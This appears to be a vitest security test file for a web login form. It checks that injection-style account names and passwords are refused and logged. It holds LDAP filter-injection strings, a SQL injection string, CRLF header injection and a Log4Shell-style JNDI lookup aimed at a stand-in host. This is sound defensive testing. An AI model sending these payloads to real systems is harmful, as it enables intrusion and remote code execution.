/** Names and passwords that mean something to LDAP, to a log or to memory: each is an unknown account, no more. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { startHubWorld, type HubWorld, type Person } from '../../support/hub/hub-world.ts';
import { authorizationRequest, signingIn, solveCaptcha } from '../../support/hub/signing-in.ts';
import { readTrailFromNow } from '../../support/hub/trail-reader.ts';

let world: HubWorld;
let person: Person;

const password = 'Correct-horse-7-battery';

beforeAll(async () => {
  world = await startHubWorld();
  person = await world.activePerson({ n: 1, roles: ['csm_user_nocert'] }, password);
});
afterAll(() => world.close());

async function attempt(account: string, typed: string): Promise<{ status: number; html: string }> {
  const at = signingIn(world);
  const form = await at.open(authorizationRequest(world, 'csm').url);
  const altcha = await solveCaptcha(at, form);
  const fields = { csrf: form.csrf, action: 'login', altcha, code: '12345678', account, password: typed };
  const shown = await at.post(form.url, fields);
  expect(shown.leads).toBeUndefined();
  expect([...at.browser.cookies.keys()].filter((name) => name.endsWith('session'))).toEqual([]);
  return shown;
}

const unknown = { action: 'login.attempt', outcome: 'refused', reason: 'unknown-account' };

test.each([
  '*',
  'A1*',
  '*)(uid=*))(|(uid=*',
  'A123456789)(objectClass=*',
  '(&)',
  '\\2a',
  '\\00',
  'uid=admin,ou=accounts,dc=example',
  'cn=hufu,dc=example',
  'a+b=c,d;e<f>g"h#i',
  ' leading and trailing ',
  '\u202eA123456789',
  'Ａ１２３４５６７８９',
  'ﬁ'.repeat(60),
  '__proto__',
  'constructor',
  "' OR '1'='1",
  '${jndi:ldap://evil.test/x}',
])('the account %j with the password of another is unknown, once in the trail', async (account) => {
  const trail = await readTrailFromNow(world);
  const shown = await attempt(account, password);
  expect(shown.status).toBe(422);
  expect(await trail.news()).toEqual([unknown]);
});

test.each([
  ['a NUL', 'A1\0*'],
  ['a line break', 'A1\r\nX-Injected: 1'],
  ['64 kB', 'A'.repeat(60_000)],
])('an account with %s is refused by the form, once in the trail', async (_, account) => {
  const trail = await readTrailFromNow(world);
  const shown = await attempt(account, password);
  expect([400, 422]).toContain(shown.status);
  const news = await trail.news();
  expect(news).toHaveLength(1);
  expect(news[0]).toMatchObject({ outcome: 'refused' });
});

test('an empty password reaches no rule, whatever else was given', async () => {
  const trail = await readTrailFromNow(world);
  for (const typed of ['', ' ']) {
    const shown = await attempt(person.nationalId, typed);
    expect(shown.status).toBe(422);
  }
  const outcomes = (await trail.news()).map(({ outcome }) => outcome);
  expect(outcomes.every((outcome) => outcome === 'refused')).toBe(true);
  const { passwords } = world.hub.services.directory;
  expect(await passwords.checkPassword(person.account, '')).toBe(false);
  expect(await passwords.checkPassword(person.account, password)).toBe(true);
});

test.each(['*', '\\2a', `${password}\0`, `${password} `, password.toUpperCase(), 'x'.repeat(129)])(
  'the password %j opens nothing',
  async (typed) => {
    const shown = await attempt(person.nationalId, typed);
    expect([400, 422]).toContain(shown.status);
    world.clock.advance(3_600_000);
  },
);

test('a check code is mailed to nobody for a name with a pattern', async () => {
  const trail = await readTrailFromNow(world);
  const before = (await world.mailbox.mailsTo(person.email)).length;
  for (const account of ['*', `${person.nationalId.slice(0, 9)}*`, `${person.nationalId})(uid=*`]) {
    const at = signingIn(world);
    const form = await at.open(authorizationRequest(world, 'csm').url);
    const fields = { csrf: form.csrf, action: 'send-code', code: '', account, password };
    await at.post(form.url, { ...fields, altcha: await solveCaptcha(at, form) });
  }
  expect(await trail.news()).toEqual(
    Array.from({ length: 3 }, () => ({ ...unknown, action: 'login-code.send' })),
  );
  expect(await world.mailbox.mailsTo(person.email)).toHaveLength(before);
});
